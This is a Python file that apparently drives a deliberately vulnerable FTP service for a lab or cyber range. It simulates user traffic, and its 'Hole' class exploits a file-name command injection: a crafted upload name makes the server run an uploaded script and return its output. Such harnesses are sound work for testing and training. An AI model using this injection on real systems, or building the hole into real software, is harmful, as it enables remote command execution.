# SPDX-License-Identifier: Apache-2.0
"""FTP: uploads that a script files, downloads, lists, renames. A file's name reaches the script's shell."""
import ftplib
import io
import random
import time

import pace

PORT = 21


def login(host):
    ftp = ftplib.FTP()
    ftp.connect(host, PORT, timeout=20)
    ftp.login("drop", "drop")
    return ftp


class user:
    def __init__(self, host):
        self.ftp = login(host)
        self.left = random.randint(3, 30)
        self.close = self.ftp.close

    def __call__(self):
        self.left -= 1
        if self.left < 0:
            self.ftp.quit()
            raise EOFError
        choice, n = random.random(), random.randint(1, 20)
        if choice < 0.35:
            self.ftp.storbinary(f"STOR in/up{random.randint(1, 60)}", io.BytesIO(random.randbytes(n * n * 50)))
        elif choice < 0.6:
            self.ftp.retrbinary(f"RETR filed/old{n}", lambda _: None)
        elif choice < 0.8:
            self.ftp.retrlines("LIST filed", lambda _: None)
        elif choice < 0.9:
            self.ftp.retrlines("NLST", lambda _: None)
        else:
            name = f"in/part{n}.part"
            self.ftp.storbinary(f"STOR {name}", io.BytesIO(pace.words(n).encode()))
            self.ftp.delete(name)


def once(host):
    return login(host).retrlines("NLST", lambda _: None)


class Hole:
    """A name may hold any command that needs no slash: it decodes the real one."""

    def __init__(self, host):
        self.host = host
        self.ftp = login(host)

    def run(self, command, wait=60):
        script = command.encode()
        self.ftp.storbinary("STOR job.sh", io.BytesIO(b"{ " + script + b"\n} >/home/drop/out.new 2>&1; mv /home/drop/out.new /home/drop/out\n"))
        self.ftp.storbinary("STOR in/x;sh ..$(printf '\\057')job.sh;exit;", io.BytesIO(b""))
        end = time.monotonic() + wait
        while time.monotonic() < end:
            out = []
            try:
                self.ftp.retrbinary("RETR out", out.append)
                self.ftp.delete("out")
                return b"".join(out).decode(errors="replace")
            except ftplib.error_perm:
                time.sleep(0.2)
        return ""
